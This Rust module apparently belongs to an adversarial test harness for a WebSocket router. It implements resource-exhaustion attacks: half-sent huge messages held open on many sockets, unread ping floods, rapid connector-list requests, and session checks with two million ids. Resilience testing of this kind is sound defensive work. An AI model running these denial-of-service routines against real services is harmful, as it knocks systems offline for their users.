//! A hostile caller that has the callers' key.

use std::io::{self, Write as _};
use std::net::TcpStream;
use std::time::Duration;

use bytes::Bytes;
use rcs_proto::frames::{self, Ask};

use super::wire::{BINARY, PING, drain, frame_head, group_path, session, upgraded, write_frame};
use super::{Attack, Target};

/// Unfinished messages at a time. All of them together are more than a process can hold.
const HALF_MESSAGES: usize = 24;
/// Bytes that an unfinished message announces: the most that the router accepts.
const ANNOUNCED: u64 = 64 << 20;
/// Bytes of an unfinished message that are sent.
const SENT: usize = 63 << 20;
/// Bytes that one write sends.
const CHUNK: usize = 256 << 10;
/// Sockets whose pongs nobody reads.
const UNREAD: usize = 8;
/// Pings that one write sends.
const PINGS: usize = 500;
/// Ids in one session check that is far too long.
const IDS: i64 = 2_000_000;
/// Time between two session checks that are far too long.
const CHECK_EVERY: Duration = Duration::from_secs(2);

/// Sends nearly whole messages on many sockets, and keeps the sockets open.
pub(super) fn half_messages(target: &Target, attack: &Attack) {
    keep_half(attack, |number| {
        let session_id = format!("{}-{}", attack.name, number / 8);
        session(target.listen, &group_path(), &session_id)
    });
}

/// Sends nearly whole messages before the first handshake, and keeps the sockets open.
pub(super) fn half_handshakes(target: &Target, attack: &Attack) {
    keep_half(attack, |_| upgraded(target.listen, &group_path()));
}

fn keep_half(attack: &Attack, open_one: impl Fn(usize) -> io::Result<TcpStream>) {
    let mut open: Vec<Half> = Vec::new();
    let mut number = 0;
    let chunk = vec![0; CHUNK];
    while attack.goes_on() {
        while open.len() < HALF_MESSAGES && attack.goes_on() {
            number += 1;
            let Ok(mut stream) = open_one(number) else { break };
            if stream.write_all(&frame_head(BINARY, ANNOUNCED)).is_ok()
                && stream.set_nonblocking(true).is_ok()
            {
                open.push(Half { stream, sent: 0 });
                attack.count();
            }
        }
        open.retain_mut(|half| half.goes_on(&chunk));
        attack.rest(Duration::from_millis(20));
    }
}

/// A message that is never sent to its end.
struct Half {
    stream: TcpStream,
    sent: usize,
}

impl Half {
    /// Sends a further piece, if the router reads. Returns false if the connection is closed.
    fn goes_on(&mut self, chunk: &[u8]) -> bool {
        if self.sent >= SENT {
            return !matches!(self.stream.peek(&mut [0]), Ok(0))
                && self.stream.take_error().is_ok_and(|error| error.is_none());
        }
        match self.stream.write(chunk) {
            Ok(written) => {
                self.sent += written;
                true
            }
            Err(error) => error.kind() == io::ErrorKind::WouldBlock,
        }
    }
}

/// Sends pings and reads none of the pongs.
pub(super) fn unread_pongs(target: &Target, attack: &Attack) {
    let pings: Vec<u8> = (0..PINGS)
        .flat_map(|_| {
            let mut frame = frame_head(PING, 125);
            frame.extend([7; 125]);
            frame
        })
        .collect();
    let mut open: Vec<TcpStream> = Vec::new();
    let mut number = 0;
    while attack.goes_on() {
        while open.len() < UNREAD && attack.goes_on() {
            number += 1;
            let Ok(stream) = session(target.listen, &group_path(), &format!("{}-{number}", attack.name))
            else {
                break;
            };
            // If the router has stopped reading, the attacker looks at the socket only now and then.
            let _ = stream.set_write_timeout(Some(Duration::from_millis(20)));
            open.push(stream);
        }
        open.retain_mut(|stream| match stream.write_all(&pings) {
            Ok(()) => {
                attack.count();
                true
            }
            // A ping that was cut in two is invalid, so the attack goes on with a new socket.
            Err(_) => false,
        });
        attack.rest(Duration::from_millis(50));
    }
}

/// Asks for the connectors of all groups as fast as it can, and reads the answers.
pub(super) fn lists(target: &Target, attack: &Attack) {
    while attack.goes_on() {
        let Ok(mut stream) = session(target.listen, "/openicf", attack.name) else {
            attack.rest(Duration::from_millis(100));
            continue;
        };
        let mut id = 0;
        while attack.goes_on() {
            id += 1;
            let question = frames::control_request(id, Ask::ConnectorInfo, &[], &[id]);
            if write_frame(&mut stream, BINARY, &question).is_err() || drain(&mut stream).is_err() {
                break;
            }
            attack.count();
        }
    }
}

/// Sends session checks with millions of ids.
pub(super) fn long_checks(target: &Target, attack: &Attack) {
    let ids: Vec<i64> = (1..=IDS).collect();
    let as_local: Bytes = frames::control_request(1, Ask::Check, &ids, &[]);
    let as_remote: Bytes = frames::control_request(1, Ask::Check, &[], &ids);
    while attack.goes_on() {
        if let Ok(mut stream) = session(target.listen, &group_path(), attack.name) {
            for check in [&as_local, &as_remote] {
                // A router that has no room for the message stops to read: that is as far as this attack gets.
                let _ = write_frame(&mut stream, BINARY, check);
                attack.count();
            }
        }
        attack.rest(CHECK_EVERY);
    }
}
